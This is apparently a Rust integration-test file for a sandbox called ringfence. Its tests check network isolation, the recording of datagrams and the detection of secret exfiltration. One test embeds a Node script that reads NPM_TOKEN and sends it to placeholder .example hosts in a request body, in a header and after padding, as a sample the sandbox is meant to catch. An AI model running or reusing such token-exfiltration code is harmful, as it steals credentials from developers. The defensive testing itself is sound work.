use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use crate::common::{TestContext, Tier, probe_results, require_probe, require_userns, show, tier};

/// Listeners on the host's loopback that count what reaches them.
struct Listeners {
    tcp_port: u16,
    udp_port: u16,
    abstract_name: String,
    hits: Arc<AtomicUsize>,
}

impl Listeners {
    fn start() -> Self {
        let hits = Arc::new(AtomicUsize::new(0));
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let tcp_port = tcp.local_addr().unwrap().port();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp.local_addr().unwrap().port();
        let abstract_name = format!("ringfence-test-{}-{}", std::process::id(), tcp_port);
        let unix =
            UnixListener::bind_addr(&SocketAddr::from_abstract_name(&abstract_name).unwrap())
                .unwrap();
        let h = hits.clone();
        std::thread::spawn(move || {
            for s in tcp.incoming().flatten() {
                let mut s = s;
                let mut buf = [0u8; 64];
                let _ = s.read(&mut buf);
                h.fetch_add(1, Ordering::SeqCst);
            }
        });
        let h = hits.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 64];
            while udp.recv(&mut buf).is_ok() {
                h.fetch_add(1, Ordering::SeqCst);
            }
        });
        let h = hits.clone();
        std::thread::spawn(move || {
            for s in unix.incoming().flatten() {
                let mut s = s;
                let mut buf = [0u8; 64];
                let _ = s.read(&mut buf);
                h.fetch_add(1, Ordering::SeqCst);
            }
        });
        Listeners {
            tcp_port,
            udp_port,
            abstract_name,
            hits,
        }
    }

    fn probes(&self) -> Vec<String> {
        vec![
            format!("tcp:{}", self.tcp_port),
            format!("udp:{}", self.udp_port),
            format!("abstract:{}", self.abstract_name),
        ]
    }

    fn hits_after_settle(&self) -> usize {
        std::thread::sleep(Duration::from_millis(300));
        self.hits.load(Ordering::SeqCst)
    }
}

#[test]
fn nothing_reaches_listeners_on_the_host_loopback() {
    if !require_userns() {
        return;
    }
    let Some(probe) = require_probe() else {
        return;
    };
    let l = Listeners::start();
    let ctx = TestContext::new();
    let dir = probe.parent().unwrap().to_str().unwrap().to_string();
    let probes = l.probes();
    let mut args = vec![probe.to_str().unwrap()];
    args.extend(probes.iter().map(String::as_str));
    let out = ctx.run(&["--ro", &dir], &args);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let got = probe_results(&out.stdout);
    match tier() {
        // An empty network namespace: nothing listens on its own loopback.
        Tier::Full => {
            assert_eq!(
                got[&probes[0]], "ECONNREFUSED",
                "TCP to host loopback: {got:?}"
            );
            assert!(
                matches!(got[&probes[2]].as_str(), "ECONNREFUSED" | "EPERM"),
                "abstract socket: {got:?}"
            );
        }
        // No namespace: the recorder answers for the kernel (docs/tiers.md). A TCP connect to
        // a port the sinkhole does not serve is refused as in the full tier; the UDP socket is
        // one of the sinkhole's, so the datagram is "sent" — to the sinkhole; the abstract
        // socket is refused by seccomp. The listeners check below is what matters.
        Tier::Landlock => {
            assert_eq!(got[&probes[0]], "ECONNREFUSED", "TCP: {got:?}");
            assert_eq!(got[&probes[1]], "ok", "UDP: {got:?}");
            assert!(
                matches!(got[&probes[2]].as_str(), "EACCES" | "EPERM"),
                "abstract socket: {got:?}"
            );
        }
    }
    assert_eq!(l.hits_after_settle(), 0, "a host listener received data");
}

/// Control: the same probes without the sandbox do reach the listeners.
#[test]
fn the_same_probes_reach_the_listeners_without_the_sandbox() {
    let Some(probe) = require_probe() else {
        return;
    };
    let l = Listeners::start();
    let out = std::process::Command::new(&probe)
        .args(l.probes())
        .output()
        .unwrap();
    let got = probe_results(&out.stdout);
    assert!(got.values().all(|v| v == "ok"), "{got:?}");
    assert_eq!(l.hits_after_settle(), 3);
}

#[test]
fn only_loopback_exists_and_it_is_up() {
    if !require_userns() {
        return;
    }
    let ctx = TestContext::new();
    let out = ctx.sh("cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '; cat /sys/class/net/lo/operstate 2>/dev/null; true");
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    let ifaces: Vec<&str> = text.lines().take_while(|l| !l.is_empty()).collect();
    assert_eq!(ifaces.first(), Some(&"lo"), "{text}");
    match tier() {
        Tier::Full => assert_eq!(ifaces.len(), 1, "{text}"),
        // No network namespace: the host's interfaces are listed (but nothing can be sent
        // through them: `nothing_reaches_listeners_on_the_host_loopback`).
        Tier::Landlock => {
            let host = std::fs::read_to_string("/proc/net/dev").unwrap();
            let host: Vec<String> = host
                .lines()
                .skip(2)
                .filter_map(|l| l.split(':').next())
                .map(|n| n.trim().to_string())
                .collect();
            assert_eq!(ifaces, host, "{text}");
        }
    }
}

/// The recorder is notified of every `sendmsg` but ringfence's own channel's, which it knows by
/// descriptor number; that number is one no sandboxed process can be given (at or above its
/// NOFILE limit). So a datagram is seen whatever descriptor sends it: a socket dup'ed onto every
/// number from 3 up, and onto the highest the limit allows, sends one each, and every one is
/// recorded (aggregated into one finding that counts them).
#[test]
fn a_datagram_is_seen_whatever_descriptor_sends_it() {
    if !require_userns() {
        return;
    }
    let python = std::path::Path::new("/usr/bin/python3");
    if tier() == Tier::Landlock || !python.exists() {
        // The landlock tier refuses UDP sockets outright (docs/tiers.md).
        return;
    }
    let ctx = TestContext::new();
    let script = ctx.project.join("dgram.py");
    std::fs::write(
        &script,
        r#"import os, socket, resource
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
sent = []
for fd in list(range(3, 64)) + [soft - 1]:
    if fd == s.fileno():
        continue
    try:
        os.dup2(s.fileno(), fd)
    except OSError:
        continue
    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 0, fd)
    try:
        t.sendmsg([b"probe"], [], 0, ("198.51.100.7", 20000 + fd))
    except OSError:
        pass
    t.detach()
    sent.append(fd)
print(len(sent))
"#,
    )
    .unwrap();
    let report = ctx.root().join("r.json");
    let out = ctx.run(
        &[
            "--ro",
            ctx.project.to_str().unwrap(),
            "--report",
            report.to_str().unwrap(),
        ],
        &["/usr/bin/python3", script.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let sent: usize = crate::common::stdout(&out).trim().parse().unwrap();
    assert!(sent >= 60, "{}", show(&out));
    let r = crate::report::json(&report);
    let seen: usize = r["runs"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "unserved-connection")
        .map(|f| {
            let s = f["summary"].as_str().unwrap();
            // "…; refused (×37: 36 more like it)" when aggregated.
            s.split_once("(×")
                .and_then(|(_, rest)| rest.split_once(':'))
                .map_or(1, |(n, _)| n.parse().unwrap())
        })
        .sum();
    assert_eq!(seen, sent, "every datagram is recorded: {r:#}");
}

/// A secret in what node sends over HTTPS is a critical exfiltration wherever it is in the
/// request: in a fetch body or header (fetch's bodies were not looked at), and past the first
/// 16 KiB of a request body (only that much was kept). The preload reads them before
/// encryption; the sinkhole sees only the TLS handshake.
#[test]
fn a_secret_deep_in_an_https_request_is_an_exfiltration() {
    if !require_userns() {
        return;
    }
    let ctx = TestContext::new();
    let report = ctx.root().join("r.json");
    let script = r#"
        const https = require('https');
        const token = process.env.NPM_TOKEN;
        fetch('https://fetch-body.example/upload', { method: 'POST', body: JSON.stringify({ t: token }) })
          .catch(() => {});
        fetch('https://fetch-header.example/', { headers: { authorization: `Bearer ${token}` } })
          .catch(() => {});
        const req = https.request({ host: 'padded.example', method: 'POST', path: '/p' });
        req.on('error', () => {});
        req.end(' '.repeat(40 << 10) + token);
        setTimeout(() => {}, 1500);
    "#;
    let out = ctx.run(
        &["--report", report.to_str().unwrap()],
        &["node", "-e", script],
    );
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let v: serde_json::Value = crate::report::json(&report);
    let findings = v["runs"][0]["findings"].as_array().unwrap();
    for target in [
        "fetch-body.example:443",
        "fetch-header.example:443",
        "padded.example:443",
    ] {
        assert!(
            findings.iter().any(|f| f["kind"] == "exfiltration"
                && f["severity"] == "critical"
                && f["target"] == target),
            "{target}: {findings:#?}"
        );
        // Not also "nothing secret was seen" about the same destination.
        assert!(
            !findings
                .iter()
                .any(|f| f["kind"] == "network-attempt" && f["target"] == target),
            "{target}: {findings:#?}"
        );
    }
}

/// The landlock tier: a datagram socket pair could send to any pathname socket on the host
/// (Landlock does not cover them), recorded or not — measured: without recording a datagram
/// reached a host listener. It is refused at `socketpair`; stream pairs (node's, python's)
/// still work.
#[test]
fn a_datagram_socket_pair_cannot_reach_a_host_socket_in_the_landlock_tier() {
    if !crate::common::tiers_here().contains(&"landlock") {
        return;
    }
    let ctx = TestContext::new();
    let dir = ctx.root().join("sockets");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("host.sock");
    let listener = std::os::unix::net::UnixDatagram::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = format!(
        "import socket\n\
         try:\n    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n    \
         a.sendto(b'HOST-LEAK', '{p}')\n    print('dgram sent')\n\
         except OSError as e:\n    print('dgram', e.errno)\n\
         a, b = socket.socketpair()\n\
         print('stream pair ok')\n",
        p = path.display()
    );
    for record in [true, false] {
        let mut flags = vec!["--tier", "landlock", "--ro", dir.to_str().unwrap()];
        if !record {
            flags.push("--no-record");
        }
        let out = ctx.run(&flags, &["/usr/bin/python3", "-c", &script]);
        let text = show(&out);
        let so = String::from_utf8_lossy(&out.stdout);
        assert!(so.contains(&format!("dgram {}", libc::EACCES)), "{text}");
        assert!(so.contains("stream pair ok"), "{text}");
        let mut buf = [0u8; 64];
        assert!(
            listener.recv(&mut buf).is_err(),
            "the host socket received a datagram (record: {record})\n{text}"
        );
    }
}
